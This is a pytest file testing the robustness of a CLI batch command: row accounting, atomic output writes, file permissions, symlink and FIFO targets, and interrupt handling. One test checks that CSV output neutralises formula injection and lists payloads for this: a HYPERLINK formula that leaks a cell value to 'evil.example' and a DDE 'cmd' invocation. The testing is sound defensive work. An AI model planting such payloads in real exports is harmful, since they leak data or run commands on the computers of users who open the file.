"""Batch never loses a row and never damages its output target (robustness review H1, M3, M4, L3-L5)."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from conftest import DATA, EXAMPLES, ROOT, assert_clean_errors, run_main

from advisor.batch import run_batch

BAD = DATA / "bad" / "batch"
CSV_FILE = EXAMPLES / "batch" / "dih-members.csv"


def rows_of(path, catalogue, rules, jobs=1):
    out = io.StringIO()
    total, errors = run_batch(path, out, fmt="jsonl", catalogue=catalogue, rules=rules, jobs=jobs)
    return [json.loads(line) for line in out.getvalue().splitlines()], out.getvalue()


@pytest.mark.parametrize("name,inputs,bad_rows,message", [
    ("invalid_utf8_row.csv", 3, [2], ":3: not valid UTF-8"),
    ("invalid_utf8_row.jsonl", 3, [2], ":2: not valid UTF-8"),
    ("lone_surrogate_id.jsonl", 2, [1], ":1: id: contains control characters or invalid Unicode"),
    ("lone_surrogate_id.json", 2, [1], "id: contains control characters or invalid Unicode"),
    ("unbalanced_quote.csv", 4, [2], ":3: a quoted field opened on this line is never closed"),
    ("all_empty_row.csv", 3, [2], ":3: every cell of the row is empty"),
])
def test_every_input_row_gives_one_output_row(name, inputs, bad_rows, message, catalogue, rules):
    rows, text = rows_of(BAD / name, catalogue, rules)
    assert [r["row"] for r in rows] == list(range(1, inputs + 1))
    assert [r["row"] for r in rows if r["status"] == "error"] == bad_rows
    assert message in rows[bad_rows[0] - 1]["error"]
    _, text2 = rows_of(BAD / name, catalogue, rules, jobs=2)
    assert text2 == text  # --jobs 2 is byte-identical to --jobs 1


def test_unclosed_quote_keeps_the_id_and_the_rows_after_it(catalogue, rules):
    rows, _ = rows_of(BAD / "unbalanced_quote.csv", catalogue, rules)
    assert [r["id"] for r in rows] == ["r1", "r2", "r3", "r4"]
    assert [r["status"] for r in rows] == ["ok", "error", "ok", "ok"]


def test_a_quoted_cell_may_span_lines(catalogue, rules):
    rows, _ = rows_of(BAD / "multiline_cell.csv", catalogue, rules)
    assert [r["status"] for r in rows] == ["ok", "ok"]
    assert rows[0]["advice"]["requirements"]["organisation"]["name"] == "Multi\nline name"


def test_csv_output_neutralises_formulas(tmp_path):
    out = tmp_path / "out.csv"
    code, _, err = run_main("batch", str(BAD / "formula_injection.csv"), "-o", str(out))
    assert code == 0, err
    ids = [r["id"] for r in csv.DictReader(out.open(encoding="utf-8"))]
    assert ids == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2"]


def test_output_to_a_regular_file_is_atomic_and_keeps_its_mode(tmp_path):
    out = tmp_path / "results.csv"
    out.write_text("old results\n", encoding="utf-8")
    out.chmod(0o640)
    code, _, _ = run_main("batch", str(CSV_FILE), "-o", str(out))
    assert code == 2  # one bad row in the example
    assert stat.S_IMODE(out.stat().st_mode) == 0o640
    assert out.read_text(encoding="utf-8").startswith("row,id,status")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results.csv"]


def test_new_output_file_gets_the_usual_permissions(tmp_path):
    out = tmp_path / "new.jsonl"
    mask = os.umask(0o022)
    try:
        run_main("batch", str(CSV_FILE), "-o", str(out))
    finally:
        os.umask(mask)
    assert stat.S_IMODE(out.stat().st_mode) == 0o644


def test_output_through_a_symlink_writes_the_target(tmp_path):
    real = tmp_path / "results" / "real.csv"
    real.parent.mkdir()
    real.write_text("old\n", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    run_main("batch", str(CSV_FILE), "-o", str(link))
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert real.read_text(encoding="utf-8").startswith("row,id,status")


def test_output_to_a_fifo_writes_through(tmp_path):
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    code, _, _ = run_main("batch", str(CSV_FILE), "-o", str(fifo), "--format", "jsonl")
    reader.join(timeout=60)
    assert code == 2 and stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert len(received[0].decode().splitlines()) == 8


@pytest.mark.skipif(os.geteuid() != 0, reason="creating a device node needs root")
def test_output_to_a_device_is_never_replaced(tmp_path):
    null = tmp_path / "null"
    os.mknod(null, 0o666 | stat.S_IFCHR, os.makedev(1, 3))  # a private stand-in for /dev/null
    code, _, _ = run_main("batch", str(CSV_FILE), "-o", str(null))
    assert code == 2 and stat.S_ISCHR(os.lstat(null).st_mode)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["null"]


@pytest.mark.parametrize("target,message", [
    ("missing/out.csv", "does not exist"),
    (".", "is a directory"),
])
def test_unwritable_output_fails_before_scoring(tmp_path, target, message):
    out = tmp_path / target
    code, _, err = run_main("batch", str(CSV_FILE), "-o", str(out))
    assert code == 2 and message in err
    assert_clean_errors(err)


def test_read_only_output_fails_before_scoring_and_is_kept(tmp_path, monkeypatch):
    out = tmp_path / "out.csv"
    out.write_text("keep me\n", encoding="utf-8")
    real = os.access
    monkeypatch.setattr(os, "access", lambda path, mode, **kw: False if Path(path) == out else real(path, mode, **kw))
    scored = []
    monkeypatch.setattr("advisor.batch.Scorer.__call__", lambda *a, **k: scored.append(1))
    code, _, err = run_main("batch", str(CSV_FILE), "-o", str(out))
    assert code == 2 and "out.csv: cannot write it: the file is read-only for you" in err
    assert out.read_text(encoding="utf-8") == "keep me\n" and not scored
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


def test_output_owned_by_someone_else_is_written_through_not_replaced(tmp_path, monkeypatch):
    out = tmp_path / "theirs.jsonl"
    out.write_text("their previous content\n", encoding="utf-8")
    inode = out.stat().st_ino
    monkeypatch.setattr(os, "geteuid", lambda: out.stat().st_uid + 4242)  # we are not its owner
    rows = tmp_path / "rows.jsonl"
    rows.write_text('{"use_case": {"tasks": ["chat"]}}\n', encoding="utf-8")
    code, _, err = run_main("batch", str(rows), "-o", str(out))
    assert code == 0, err
    assert out.stat().st_ino == inode  # the same file, still theirs, now holding our rows
    text = out.read_text(encoding="utf-8")
    assert text.startswith('{"row": 1') and "their previous content" not in text
    assert sorted(p.name for p in tmp_path.iterdir()) == ["rows.jsonl", "theirs.jsonl"]


def test_file_level_error_leaves_no_debris(tmp_path):
    empty = tmp_path / "empty.csv"
    empty.write_text("id,use_case.tasks\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    code, _, err = run_main("batch", str(empty), "-o", str(out))
    assert code == 2 and "no profiles" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["empty.csv"]


@pytest.mark.parametrize("sig,code", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_interrupted_batch_leaves_no_partial_and_no_tracebacks(tmp_path, sig, code):
    rows = tmp_path / "many.jsonl"
    rows.write_text("".join(json.dumps({"use_case": {"tasks": ["chat"], "languages": ["de"],
                                                     "concurrent_users": i + 1}}) + "\n" for i in range(3000)),
                    encoding="utf-8")
    out = tmp_path / "out.jsonl"
    # as a terminal starts a foreground command: Ctrl+C not ignored (a test run started in the
    # background inherits SIGINT ignored, and advisor then rightly ignores it too)
    proc = subprocess.Popen([sys.executable, "-m", "advisor", "batch", str(rows), "-o", str(out), "--jobs", "2"],
                            cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True,
                            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and not any(p.name.endswith(".partial") for p in tmp_path.iterdir()):
        time.sleep(0.1)
    time.sleep(1.0)
    os.killpg(proc.pid, sig) if sig == signal.SIGINT else proc.send_signal(sig)
    _, stderr = proc.communicate(timeout=120)
    assert proc.returncode == code, stderr
    assert "Traceback" not in stderr.decode()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["many.jsonl"]


@pytest.mark.parametrize("delay", [0.001, 0.01, 0.03])
def test_interrupt_while_python_loads_advisor_exits_130_without_traceback(delay):
    """Ctrl+C in the first milliseconds, while the CLI and its compiled libraries are imported:
    an interrupt inside pydantic-core's import made it panic with a traceback of its own."""
    script = ("import signal\n"
              "from advisor._entry import main\n"
              "signal.signal(signal.SIGALRM, lambda *a: signal.raise_signal(signal.SIGINT))\n"
              f"signal.setitimer(signal.ITIMER_REAL, {delay})\n"
              "raise SystemExit(main(['recommend', 'examples/requirements/clinic.yaml', '--format', 'json']))\n")
    proc = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=120,
                          preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    assert proc.returncode == 130, proc.stderr[-2000:]
    assert "Traceback" not in proc.stderr and "panicked" not in proc.stderr
